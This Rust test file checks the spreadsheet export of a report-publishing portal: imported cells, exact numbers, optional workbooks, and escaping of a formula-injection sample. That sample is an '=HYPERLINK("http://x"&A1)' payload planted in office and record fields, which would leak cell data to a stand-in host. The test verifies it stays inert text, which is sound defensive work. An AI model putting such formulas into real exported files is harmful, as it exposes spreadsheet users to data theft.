//! Data files: what they hold is what the reports say.

use crate::harness::{OFFICE, load, output, site, statistics, statistics_of, workbook};
use gongkai::base::{Cell, Value};
use gongkai::form::Form;
use gongkai::import;
use gongkai::source::{DiskSource, MemorySource, Source};
use std::path::Path;

/// A text as a TOML string.
fn quoted(text: &str) -> String {
    toml::Value::from(text).to_string()
}

/// The example portal with the reports of some years only.
fn example(years: &[&str]) -> MemorySource {
    let disk = DiskSource::open(Path::new(env!("CARGO_MANIFEST_DIR"))).unwrap();
    let mut memory = MemorySource::default();
    for path in disk.scan().files.keys() {
        let name = path.as_str().rsplit('/').next().unwrap();
        let stem = name.split('.').next().unwrap();
        let is_year = stem.len() == 4 && stem.bytes().all(|byte| byte.is_ascii_digit());
        if !is_year || years.contains(&stem) {
            memory.write(path.as_str(), disk.read(path).unwrap());
        }
    }
    memory
}

fn shown(form: &Form, index: usize, cell: Cell) -> String {
    match cell.value() {
        Value::Number(number) => {
            let unit = cell.unit().map(|unit| form.cells[index].units[unit].to_string());
            format!("{number}{}", unit.unwrap_or_default())
        }
        Value::BelowOne => "<1".to_owned(),
        Value::None(state) => state.word().to_owned(),
    }
}

#[test]
fn a_workbook_is_a_report_that_can_be_imported() {
    let mut compared = 0;
    for year in ["2020", "2021", "2024"] {
        let source = example(&[year]);
        let state = load(&source);
        let portal = state.portal();
        let files = output(&source);
        let forms: Vec<&Form> = portal.forms.iter().map(|(_, form)| form).collect();
        for (_, report) in portal.reports.iter() {
            let office = &portal.offices[report.office];
            let route = format!("{}/data.xlsx", office.path);
            let read =
                import::read("data.xlsx", &files[&route], &forms, &import::Options::default()).unwrap();
            let form = portal.form_of(report).unwrap();
            assert_eq!(read.form_id, form.id, "{route} {year}");
            assert_eq!(read.year, Some(report.period.number()), "{route}");
            assert_eq!(read.office.as_deref(), Some(portal.name_in(office, report.period)), "{route}");
            let (_, statistics) = report.statistics.as_ref().unwrap();
            for (index, cell) in statistics.cells.iter().enumerate() {
                let (found, wanted) = (shown(form, index, read.cells.get(index)), shown(form, index, cell));
                // A spreadsheet has no zeros behind the last digit but by its format, which import does not read.
                let same = found == wanted || found == wanted.trim_end_matches('0').trim_end_matches('.');
                assert!(same, "{route} {year} {}: {found} instead of {wanted}", form.cells[index].id);
                compared += 1;
            }
        }
    }
    assert!(compared > 9_000, "only {compared} cells were compared");
}

#[test]
fn every_part_of_a_workbook_is_xml_and_none_is_a_formula() {
    let evil = "=HYPERLINK(\"http://x\"&A1)<b>&\u{1}_x0041_";
    let mut source = site([("content/yi/region.toml", "name = \"乙区\"\n")]);
    source.write("content/yi/jia/office.toml", format!("name = {}\n", quoted(evil)));
    let record = format!("index_no = {}\nsource = {}\n", quoted(evil), quoted(evil));
    let notes = format!("[notes]\nX-CARRY = {}\n", quoted(evil));
    source.write("content/yi/jia/2024.toml", format!("{record}{}{notes}", statistics()));
    let files = output(&source);
    let mut seen = 0;
    for (route, bytes) in files.iter().filter(|(route, _)| route.ends_with(".xlsx")) {
        for (name, text) in workbook(bytes) {
            let mut reader = quick_xml::Reader::from_str(&text);
            loop {
                match reader.read_event().unwrap_or_else(|error| panic!("{route} {name}: {error}")) {
                    quick_xml::events::Event::Eof => break,
                    quick_xml::events::Event::Start(tag) => {
                        assert_ne!(tag.name().as_ref(), "f", "{route} {name} holds a formula");
                    }
                    _ => {}
                }
            }
            assert!(!text.contains('\u{1}') && !text.contains("<b>&"), "{route} {name}");
            seen += text.matches("=HYPERLINK(&quot;http://x&quot;&amp;A1)&lt;b&gt;&amp;").count();
            assert!(!text.contains("&amp;_x0041_"), "{route} {name}");
        }
    }
    assert!(seen >= 6, "the text is in no workbook: {seen}");
}

#[test]
fn numbers_keep_their_places_and_their_digits() {
    let mut text = statistics_of("3").replacen("fee = \"3\"", "fee = \"1.10\"", 1);
    text = text.replacen("lic = 3", "lic = 9223372036854775807", 1);
    text = text.replacen("pen = 3", "pen = \"withheld\"", 1);
    text = text.replacen("coe = 3", "coe = -5", 1);
    let source = site([("content/yi/jia/office.toml", OFFICE), ("content/yi/jia/2024.toml", &text)]);
    let files = output(&source);
    for (route, sheet) in [("yi/jia/data.xlsx", "sheet2"), ("years/2024/data.xlsx", "sheet1")] {
        let xml = &workbook(&files[route])[&format!("xl/worksheets/{sheet}.xml")];
        assert!(xml.contains("<v>1.10</v>") && xml.contains("<v>-5</v>"), "{route}");
        assert!(
            xml.contains("<t>9223372036854775807</t>"),
            "{route}: a number of 19 digits would be rounded"
        );
        assert!(xml.contains("<t>不公开</t>"), "{route}");
    }
}

#[test]
fn workbooks_can_be_switched_off_and_stay_the_same() {
    let source = example(&["2024"]);
    let (first, second) = (output(&source), output(&source));
    let is_book = |route: &String| route.ends_with(".xlsx");
    assert!(first.keys().any(is_book));
    assert_eq!(first, second);
    let mut source = source;
    source.write("site.toml", "[site]\ntitle = \"例\"\n[output]\nxlsx = false\n");
    let files = output(&source);
    assert!(!files.keys().any(is_book));
    let page = String::from_utf8(files["years/2024/index.html"].clone()).unwrap();
    assert!(!page.contains("xlsx") && page.contains("data.csv"));
}
